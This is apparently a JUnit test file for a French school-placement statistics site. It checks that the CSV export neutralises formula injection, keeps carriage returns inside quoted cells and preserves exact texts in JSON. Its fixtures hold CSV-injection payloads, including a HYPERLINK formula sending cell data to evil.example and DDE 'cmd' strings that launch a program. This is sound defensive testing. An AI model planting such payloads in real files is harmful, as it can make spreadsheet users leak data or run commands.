package fr.crefop.stages.hostile;

import fr.crefop.stages.stats.data.StatsFixture;
import fr.crefop.stages.testing.TestSite;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Site: the statistics fixture whose indicator labels, sector and source titles are spreadsheet formulas, and a
 * source title holding a carriage return. Features tested: {@code donnees.csv} can be opened in a spreadsheet
 * without running anything (hostile text cells start with {@code '}), a carriage return stays inside its quoted
 * cell, values stay plain numbers, {@code donnees.json} keeps the exact texts.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CsvInjectionTest {

    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Cliquez ici\")";
    private static final String SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String MINUS = "-2+3+cmd|' /C calc'!A0";
    private static final String PLUS = "+cmd|' /C calc'!A0";
    private static final String SECTOR = "=1+2";
    private static final String WITH_CR = "Article\rde presse";
    private static final List<String> TEXT_COLUMNS = List.of("campagne", "niveau", "territoire_code", "territoire", "indicateur",
            "libelle", "unite", "statut", "calcul", "secteur", "source", "source_titre", "source_editeur", "source_adresse");

    private TestSite site;
    private List<CSVRecord> rows;

    /** One build for all the tests: they read the same two files. */
    @BeforeAll
    void buildTheSite(@TempDir Path folder) throws IOException {
        site = TestSite.write(folder, StatsFixture.HOME + """
                -- data/statistiques/indicateurs.csv --
                cle;libelle;unite;definition;plus_est_mieux;complement_de
                taux_placement;"=HYPERLINK(""https://evil.example/?d=""&A1;""Cliquez ici"")";%;Part des élèves placés;oui;taux_sans_solution
                taux_sans_solution;@SUM(1+1)*cmd|' /C calc'!A0;%;Part des élèves sans solution;non;taux_placement
                eleves_concernes;Élèves concernés;élèves;Nombre d'élèves;;
                -- data/statistiques/sources.csv --
                cle;titre;editeur;date;adresse;precision
                enquete;-2+3+cmd|' /C calc'!A0;+cmd|' /C calc'!A0;2025-10-06;;
                presse;"Article\rde presse";France 3 Normandie;2024;https://example.org/article;
                -- data/statistiques/placements.csv --
                campagne;niveau;territoire;indicateur;valeur;unite;source;secteur
                2024;seconde;28;eleves_concernes;25685;élèves;presse;
                2025;seconde;28;taux_placement;91,77;%;enquete;
                2025;seconde;27;taux_sans_solution;15;%;enquete;
                2025;seconde;50;taux_sans_solution;6,5;%;enquete;
                2025;seconde;28;taux_placement;90;%;enquete;=1+2
                """);
        site.build();
        try (CSVParser parser = CSVParser.parse(new StringReader(site.read("statistiques/donnees.csv")),
                CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get())) {
            rows = parser.getRecords();
        }
    }

    @Test
    void hostileTextCellsStartWithAQuote() {
        Map<String, String> labels = rows.stream().collect(Collectors.toMap(r -> r.get("indicateur"), r -> r.get("libelle"), (a, b) -> a));
        assertThat(labels).containsEntry("taux_placement", "'" + HYPERLINK).containsEntry("taux_sans_solution", "'" + SUM)
                .containsEntry("eleves_concernes", "Élèves concernés");
        CSVRecord normandie = rows.stream().filter(r -> r.get("territoire_code").equals("28") && r.get("indicateur").equals("taux_placement")
                && r.get("secteur").isEmpty()).findFirst().orElseThrow();
        assertThat(normandie.get("source_titre")).isEqualTo("'" + MINUS);
        assertThat(normandie.get("source_editeur")).isEqualTo("'" + PLUS);
        assertThat(rows.stream().filter(r -> !r.get("secteur").isEmpty()).map(r -> r.get("secteur"))).containsExactly("'" + SECTOR);
        for (CSVRecord row : rows) {
            for (String column : TEXT_COLUMNS) {
                assertThat(row.get(column)).as("%s, line %d", column, row.getRecordNumber() + 1).doesNotStartWith("=")
                        .doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@");
            }
        }
    }

    @Test
    void aCarriageReturnStaysInsideItsCell() {
        CSVRecord presse = rows.stream().filter(r -> r.get("source").equals("presse")).findFirst().orElseThrow();
        assertThat(presse.get("source_titre")).isEqualTo(WITH_CR);
        assertThat(presse.get("source_editeur")).isEqualTo("France 3 Normandie");
        assertThat(rows).allSatisfy(r -> assertThat(r.size()).isEqualTo(15));
    }

    @Test
    void valuesStayPlainNumbers() {
        assertThat(rows.stream().map(r -> r.get("indicateur") + " " + r.get("territoire_code") + " " + r.get("valeur") + " " + r.get("statut")))
                .containsExactlyInAnyOrder("eleves_concernes 28 25685 rapporté", "taux_placement 28 91.77 rapporté",
                        "taux_sans_solution 27 15 rapporté", "taux_sans_solution 50 6.5 rapporté", "taux_placement 28 90 rapporté",
                        "taux_sans_solution 28 8.23 calculé", "taux_placement 27 85 calculé", "taux_placement 50 93.5 calculé");
    }

    @Test
    void jsonKeepsTheExactTexts() {
        String json = site.read("statistiques/donnees.json");
        assertThat(json).contains("\"libelle\": \"=HYPERLINK(\\\"https://evil.example/?d=\\\"&A1;\\\"Cliquez ici\\\")\"")
                .contains("\"titre\": \"-2+3+cmd|' /C calc'!A0\"").contains("\"secteur\": \"=1+2\"")
                .contains("\"titre\": \"Article\\u000dde presse\"");
    }
}
